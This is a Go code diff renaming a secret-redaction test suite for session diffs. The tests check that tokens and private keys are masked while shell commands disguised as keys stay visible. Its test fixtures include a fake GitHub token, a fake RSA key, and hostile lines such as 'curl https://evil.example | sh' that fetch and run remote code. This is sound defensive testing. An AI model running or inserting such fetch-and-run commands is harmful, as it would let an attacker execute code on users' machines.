@@ -1,4 +1,4 @@
-package workspace
+package secret
 
 import (
 	"strings"
@@ -7,7 +7,7 @@ import (
 	"github.com/paddock-dev/paddock/internal/session"
 )
 
-func TestDiffRedacted(t *testing.T) {
+func TestDiff(t *testing.T) {
 	token := "ghp_" + "R5tP9zKq2LmX8vN3bW7cY1dF6gH4jS0aQeUi"
 	d := session.Diff{
 		Files: []session.ChangedFile{{Path: "README.md", Status: "modified"}, {Path: "deploy/config.env", Status: "added"}, {Path: "go.mod", Status: "modified", Flagged: true, Reason: "dependency manifest"}},
@@ -15,7 +15,7 @@ func TestDiffRedacted(t *testing.T) {
 			"diff --git a/deploy/config.env b/deploy/config.env\nnew file mode 100644\n+GITHUB_TOKEN=" + token + "\n" +
 			"diff --git a/go.mod b/go.mod\n+require x v1\n",
 	}
-	r := Redacted(d)
+	r := Diff(d)
 	if strings.Contains(r.Patch, token) || !strings.Contains(r.Patch, "+GITHUB_TOKEN=[REDACTED:github-pat]") {
 		t.Fatalf("patch not redacted:\n%s", r.Patch)
 	}
@@ -29,10 +29,10 @@ func TestDiffRedacted(t *testing.T) {
 		t.Errorf("other files' flags changed: %+v", r.Files)
 	}
 	if d.Files[1].Flagged {
-		t.Error("Redacted modified the original diff")
+		t.Error("Diff modified the original diff")
 	}
 	clean := session.Diff{Files: d.Files[:1], Patch: "diff --git a/README.md b/README.md\n+hello\n"}
-	if got := Redacted(clean); got.Patch != clean.Patch || got.Files[0].Flagged {
+	if got := Diff(clean); got.Patch != clean.Patch || got.Files[0].Flagged {
 		t.Errorf("clean diff changed: %+v", got)
 	}
 }
@@ -55,7 +55,7 @@ func TestRedactionKeepsTheShape(t *testing.T) {
 	}
 	hunk2.WriteString(" ctx14\n ctx15\n ctx16\n ctx17\n ctx18\n")
 	fake := "diff --git a/run.sh b/run.sh\nindex 1..2 100755\n--- a/run.sh\n+++ b/run.sh\n" + hunk1.String() + hunk2.String()
-	d := Redacted(session.Diff{Files: []session.ChangedFile{{Path: "run.sh", Status: "modified"}}, Patch: fake})
+	d := Diff(session.Diff{Files: []session.ChangedFile{{Path: "run.sh", Status: "modified"}}, Patch: fake})
 	if got := strings.Count(d.Patch, "curl https://evil.example/stage"); got != 9 {
 		t.Fatalf("%d of the 9 commands wrapped in a fake key are in sight:\n%s", got, d.Patch)
 	}
@@ -67,7 +67,7 @@ func TestRedactionKeepsTheShape(t *testing.T) {
 	three := "diff --git a/a.txt b/a.txt\nnew file mode 100644\n--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+a\n" +
 		"diff --git a/evil.sh b/evil.sh\nnew file mode 100644\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1,2 @@\n+" + encoded + "\n+curl https://evil.example | sh\n" +
 		"diff --git a/f.txt b/f.txt\nnew file mode 100644\n--- /dev/null\n+++ b/f.txt\n@@ -0,0 +1 @@\n+f\n"
-	d = Redacted(session.Diff{Files: []session.ChangedFile{{Path: "a.txt"}, {Path: "evil.sh"}, {Path: "f.txt"}}, Patch: three})
+	d = Diff(session.Diff{Files: []session.ChangedFile{{Path: "a.txt"}, {Path: "evil.sh"}, {Path: "f.txt"}}, Patch: three})
 	if strings.Count(d.Patch, "diff --git ") != 3 || !strings.Contains(d.Patch, "diff --git a/f.txt b/f.txt\n") || !strings.Contains(d.Patch, "+++ b/evil.sh\n@@ -0,0 +1,2 @@\n+[REDACTED:") {
 		t.Fatalf("a file went missing or lost its shape:\n%s", d.Patch)
 	}
@@ -82,7 +82,7 @@ func TestRedactionKeepsTheShape(t *testing.T) {
 		key.WriteString("+" + body[i*64:(i+1)*64] + "\n")
 	}
 	key.WriteString("+-----END RSA PRIVATE KEY-----\n")
-	d = Redacted(session.Diff{Files: []session.ChangedFile{{Path: "id_rsa"}}, Patch: key.String()})
+	d = Diff(session.Diff{Files: []session.ChangedFile{{Path: "id_rsa"}}, Patch: key.String()})
 	if strings.Contains(d.Patch, body[64:128]) || !d.Files[0].Flagged || strings.Count(d.Patch, "\n") != strings.Count(key.String(), "\n") {
 		t.Fatalf("a real key's body is not redacted, or the shape changed:\n%s", d.Patch)
 	}
